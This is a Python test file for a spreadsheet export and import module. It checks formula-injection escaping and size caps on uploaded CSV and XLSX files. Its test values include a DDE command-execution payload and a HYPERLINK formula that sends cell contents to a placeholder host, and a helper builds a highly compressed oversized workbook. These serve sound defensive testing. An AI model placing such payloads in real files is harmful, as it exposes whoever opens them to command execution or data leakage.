"""governance.spreadsheets: the cell rule every export uses and the capped reader every import
uses (issue 10)."""

import datetime
import io
import tracemalloc
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from governance.spreadsheets import (
    Limits,
    SpreadsheetError,
    csv_text,
    read_table,
    safe_cell,
    xlsx_bytes,
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x/?"&A1,"点击")', '\'=HYPERLINK("http://x/?"&A1,"点击")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("糖果雅苑", "糖果雅苑"),
        ("a=b", "a=b"),
        ("-12.50", "-12.50"),  # a plain negative number stays a number
        ("-5", "-5"),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_gets_an_apostrophe_and_is_otherwise_kept(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize(
    "value", [-5, 3, -1.5, Decimal("-12.50"), True, None, datetime.date(2021, 1, 1)]
)
def test_typed_values_stay_typed(value):
    assert safe_cell(value) is value


def test_objects_are_written_as_escaped_text():
    class Named:
        def __str__(self):
            return "=1+1"

    assert safe_cell(Named()) == "'=1+1"


def test_xlsx_writer_keeps_numbers_numeric_and_never_writes_a_formula():
    content = xlsx_bytes([["=1+1", -5, Decimal("-12.50"), "-3", "ok\x01"]], header=["a"] * 5)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s", "s"]
    assert cells[0].value == "'=1+1"
    assert cells[1].value == -5 and cells[2].value == -12.5
    assert cells[4].value == "ok\N{REPLACEMENT CHARACTER}"  # XML cannot hold control characters


def test_csv_writer_escapes_every_cell():
    assert csv_text([["+1", -2, "x"]], header=["=h", "b", "c"]) == "'=h,b,c\r\n'+1,-2,x\r\n"


LIMITS = Limits(max_rows=20_000, max_bytes=10 * 1024 * 1024, max_unpacked_bytes=100 * 1024 * 1024)


def test_gbk_and_utf8_bom_csv_read_the_same():
    text = "小区,公司\n糖果雅苑,时代物业\n"
    for content in (text.encode("gbk"), text.encode("utf-8-sig"), text.encode("gb18030")):
        table = read_table(content, name="a.csv", limits=LIMITS)
        assert table.headers == ["小区", "公司"]
        assert table.rows == [(2, ["糖果雅苑", "时代物业"])]


def test_blank_rows_are_skipped_and_line_numbers_kept():
    table = read_table(b"a,b\n1,2\n,\n3,\n", name="a.csv", limits=LIMITS)
    assert table.rows == [(2, ["1", "2"]), (4, ["3", ""])]


def _compact_workbook(rows: int) -> bytes:
    """A small XLSX whose sheet holds `rows` rows: the shape of the issue's 129 KB file that
    unpacked to 300,000 rows."""
    base = io.BytesIO()
    workbook = openpyxl.Workbook()
    workbook.active.append(["community", "name"])
    workbook.save(base)
    # Rows without numbers (they are optional) compress to almost nothing.
    body = '<row><c t="inlineStr"><is><t>x</t></is></c></row>' * rows
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>community</t></is></c>'
        f'<c r="B1" t="inlineStr"><is><t>name</t></is></c></row>{body}</sheetData></worksheet>'
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base.getvalue())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for item in source.infolist():
            data = sheet.encode() if item.filename == "xl/worksheets/sheet1.xml" else None
            target.writestr(item.filename, data or source.read(item.filename))
    return out.getvalue()


def test_a_300000_row_workbook_is_refused_while_streaming_with_little_memory():
    content = _compact_workbook(300_000)
    assert len(content) < 400_000  # small on the wire
    tracemalloc.start()
    try:
        with pytest.raises(SpreadsheetError, match="20000"):
            read_table(content, name="big.xlsx", limits=LIMITS)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # The whole sheet as Python rows would take hundreds of MB; reading stops at the cap.
    assert peak < 64 * 1024 * 1024


def test_a_workbook_is_refused_by_its_unpacked_size_before_anything_is_decompressed():
    content = _compact_workbook(50_000)
    limits = Limits(max_rows=10**6, max_bytes=10**7, max_unpacked_bytes=1_000_000)
    with translation.override("en"), pytest.raises(SpreadsheetError, match="unpacks"):
        read_table(content, name="big.xlsx", limits=limits)


def test_a_sheet_declaring_huge_dimensions_reads_only_real_columns():
    content = _compact_workbook(3)
    table = read_table(content, name="ok.xlsx", limits=LIMITS)
    assert table.headers == ["community", "name"]
    assert [values for _line, values in table.rows] == [["x", None]] * 3


def test_an_exported_file_reads_back_to_the_same_values():
    names = ['=HYPERLINK("x")', "+1+2", "-2+3", "@SUM(1)", "'plain", "-12.50"]
    for content, name in (
        (csv_text([[n] for n in names], header=["name"]).encode(), "a.csv"),
        (xlsx_bytes([[n] for n in names], header=["name"]), "a.xlsx"),
    ):
        table = read_table(content, name=name, limits=LIMITS)
        assert [values[0] for _line, values in table.rows] == names
